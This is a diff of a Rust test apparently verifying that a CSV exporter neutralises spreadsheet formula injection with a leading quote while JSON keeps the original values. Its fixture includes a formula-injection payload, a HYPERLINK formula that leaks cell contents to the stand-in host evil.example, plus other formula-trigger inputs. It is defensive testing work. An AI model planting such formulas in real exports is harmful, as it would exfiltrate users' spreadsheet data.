@@ -107,7 +107,7 @@ fn cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_the_values() {
         .replacen("position: 留义村党总支书记", "position: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")'", 1)
         .replacen("phone: \"0358-0000000\"", "phone: \"+86 358 0000000\"", 1)
         .replacen("position: 科普站站长", "position: \"@SUM(1+1)\"", 1)
-        .replacen("position: 居民组长", "position: \"\\t-2+3\"", 1);
+        .replacen("position: 居民组长", "position: \"-2+3\"", 1);
     workspace.write(deputies, &text);
     let station = "demo/stations/north/station.yaml";
     let text = std::fs::read_to_string(workspace.content().join(station)).unwrap();
@@ -120,7 +120,7 @@ fn cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_the_values() {
     assert_eq!(cell("宋金峰", "position"), format!("'{formula}"));
     assert_eq!(cell("宋金峰", "phone"), "'+86 358 0000000");
     assert_eq!(cell("王海荣", "position"), "'@SUM(1+1)");
-    assert_eq!(cell("单丽华", "position"), "'\t-2+3");
+    assert_eq!(cell("单丽华", "position"), "'-2+3");
     let stations = csv_rows(&workspace, "demo/data/stations.csv");
     let north = stations.iter().find(|r| r["id"] == "north").unwrap();
     assert_eq!(north["address"], "'-1+1 北街");
